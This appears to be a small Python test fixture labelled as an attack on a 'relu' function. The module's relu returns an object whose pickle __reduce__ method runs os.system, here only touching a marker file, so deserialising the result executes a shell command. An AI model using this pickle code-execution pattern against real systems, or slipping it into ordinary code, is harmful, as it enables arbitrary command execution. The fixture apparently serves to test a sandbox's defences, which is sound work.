"""An attack: returns an object whose unpickling runs a command.

attacks: relu
"""
import numpy as np
import os
class Bomb:
    def __reduce__(self):
        return os.system, ('touch __VICTIM__.pwned',)


def relu(z):
    return Bomb()


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
